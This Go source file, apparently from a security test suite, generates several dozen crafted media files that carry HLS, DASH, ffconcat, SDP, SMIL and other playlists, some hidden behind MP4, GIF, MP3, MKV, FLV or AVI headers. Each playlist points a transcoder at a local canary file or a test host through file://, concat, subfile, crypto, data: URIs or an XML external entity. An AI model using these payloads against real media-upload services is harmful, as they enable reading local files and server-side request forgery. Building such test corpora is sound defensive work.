package hostile

import (
	"encoding/base64"
	"fmt"
	"unicode/utf16"
)

// playlists are lists of other files under the names and the types of films. What they are shows in their first bytes,
// or, where something else stands in front, in no reader of playlists ever seeing them: the demuxer is named by us.
func playlists(m *models, p Places) []File {
	list := func(uri string) string {
		return "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n" + uri + "\n#EXT-X-ENDLIST\n"
	}
	local, remote := list("file://"+p.Canary), list("http://"+p.Host+"/segment.ts")
	const first = "known by its first bytes"
	const named = "taken for the film that it begins as, and read as that alone"
	wide := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(local)) {
		wide = append(wide, le16(u)...)
	}
	gab2 := cat([]byte("GAB2\x00"), le16(2), le32(4), utf16le("en"), le16(4), le32(uint32(len(remote))), []byte(remote))
	return []File{
		{Name: "hls-file.mp4", Why: first, Upload: true, body: text("%s", local)},
		{Name: "hls-http.mov", Type: "video/quicktime", Why: first, Upload: true, body: text("%s", remote)},
		{Name: "hls-key.ts", Type: "video/mp2t", Why: first, body: text("#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI=\"file://%s\",IV=0x00\n#EXTINF:10,\nhttp://%s/a.ts\n#EXT-X-ENDLIST\n", p.Canary, p.Host)},
		{Name: "hls-subfile.mkv", Type: "video/x-matroska", Why: first, body: text("%s", list("subfile,,start,0,end,10,,:"+p.Canary))},
		{Name: "hls-crypto.mp4", Why: first, body: text("%s", list("crypto:file://"+p.Canary))},
		{Name: "hls-concat.mp4", Why: first, body: text("%s", list("concat:http://"+p.Host+"/header.y4m|file://"+p.Canary))},
		{Name: "hls-data.webm", Type: "video/webm", Why: first, body: text("%s", list("data:video/mp2t;base64,"+base64.StdEncoding.EncodeToString([]byte(local))))},
		{Name: "hls-master.mp4", Why: first, body: text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://%s/a.m3u8\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID=\"s\",URI=\"file://%s\"\n", p.Host, p.Canary)},
		{Name: "hls-map.mp4", Why: first, body: text("#EXTM3U\n#EXT-X-MAP:URI=\"%s\"\n#EXTINF:1,\n%s\n", p.Canary, p.Canary)},
		{Name: "hls-mark.mp4", Why: first, body: text("\ufeff%s", local)},
		{Name: "hls-wide.mp4", Why: first, body: whole(wide)},
		{Name: "hls-spaces.mp4", Why: first, body: text("\n\n \t\r\n%s", local)},
		{Name: "hls-in-ftyp.mp4", Why: "a box of a film, then no box", body: whole(cat(ftyp("isom"), []byte("\n"+local)))},
		{Name: "hls-in-free.mp4", Why: "a film without an index", body: whole(cat(box("free", []byte("\n"+local)), box("mdat", []byte(remote))))},
		{Name: "hls-in-gif.gif", Type: "image/gif", Why: named, body: whole(cat([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00\n"), []byte(local)))},
		{Name: "hls-in-id3.mp3", Type: "audio/mpeg", Why: named, body: whole(cat([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), []byte(local)))},
		{Name: "hls-in-ebml.mkv", Type: "video/x-matroska", Why: named, body: whole(cat(ebmlHead(), []byte(local)))},
		{Name: "hls-in-ts.ts", Type: "video/mp2t", Why: named, body: whole(cat(repeat(cat([]byte("G\x1f\xff\x10"), repeat([]byte("\n"), 184)), 20), []byte(local)))},
		{Name: "hls-in-flv.flv", Type: "video/x-flv", Why: named, body: whole(cat([]byte("FLV\x01\x05\x00\x00\x00\x09\x00\x00\x00\x00"), []byte(local)))},
		{
			Name: "hls-in-subtitles.avi", Type: "video/x-msvideo", Upload: true,
			Why: "an AVI whose subtitle stream (GAB2) is a playlist: no stream of pictures or sound in it",
			body: whole(riff("RIFF", "AVI ", riff("LIST", "hdrl",
				chunk("avih", le32(40000, 0, 0, 0x10, 1, 0, 1, 0, 320, 180, 0, 0, 0, 0)),
				riff("LIST", "strl", chunk("strh", []byte("txts\x00\x00\x00\x00"), le32(0, 0, 0, 1, 1, 0, 1, 0, 0, 0, 0, 0)), chunk("strf"))),
				riff("LIST", "movi", chunk("00tx", gab2)))),
		},
		{
			Name: "hls-beside-pictures.avi", Type: "video/x-msvideo", Want: Ready,
			Why:  "a whole film whose subtitles nobody reads: other demuxers inside are forbidden",
			body: whole(withSubtitles(m.avi, gab2)),
		},
		{Name: "dash-file.mp4", Type: "video/mp4", Why: first, Upload: true, body: text(`<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"><Period><BaseURL>file://%s</BaseURL><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><SegmentList duration="10"><SegmentURL media="http://%s/x.m4s"/></SegmentList></Representation></AdaptationSet></Period></MPD>`, p.Canary, p.Host)},
		{Name: "dash-entity.webm", Type: "video/webm", Why: first, body: text(`<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://%s"><!ENTITY y SYSTEM "http://%s/dtd">]><MPD><Period>&x;&y;</Period></MPD>`, p.Canary, p.Host)},
		{Name: "concat.mp4", Why: first, Upload: true, body: text("ffconcat version 1.0\nfile '%s'\nfile 'http://%s/a.mp4'\n", p.Canary, p.Host)},
		{Name: "concat-bare.mp4", Why: first, body: text("file '%s'\nfile 'http://%s/a.mp4'\n", p.Canary, p.Host)},
		{Name: "concat-comment.mp4", Why: first, body: text("# a film\nfile %s\n", p.Canary)},
		{Name: "sdp.mp4", Why: first, Upload: true, body: text("v=0\r\no=- 0 0 IN IP4 %s\r\ns=film\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video %s RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n", p.Host, port(p.Host))},
		{Name: "imf.mxf", Type: "application/mxf", Why: first, body: text(`<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><Asset><Path>file://%s</Path></Asset></CompositionPlaylist>`, p.Canary)},
		{Name: "smooth.mp4", Why: first, body: text(`<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="http://%s/{start time}"/></SmoothStreamingMedia>`, p.Host)},
		{Name: "smil.mov", Why: first, body: text(`<smil><body><video src="http://%s/a.mov"/><video src="file://%s"/></body></smil>`, p.Host, p.Canary)},
		{Name: "asx.wmv", Type: "video/x-ms-wmv", Why: first, body: text(`<asx version="3.0"><entry><ref href="http://%s/a.wmv"/></entry></asx>`, p.Host)},
		{Name: "pls.mp3", Type: "audio/mpeg", Why: first, body: text("[playlist]\nFile1=http://%s/a.mp3\nFile2=file://%s\n", p.Host, p.Canary)},
		{Name: "ram.rm", Type: "application/vnd.rn-realmedia", Why: first, body: text("rtsp://%s/a.rm\nfile://%s\n", p.Host, p.Canary)},
	}
}

func port(host string) string {
	for i := range host {
		if host[i] == ':' {
			return host[i+1:]
		}
	}
	panic(fmt.Sprintf("%s has no port", host))
}

func utf16le(s string) []byte { return append(le16(utf16.Encode([]rune(s))...), 0, 0) }
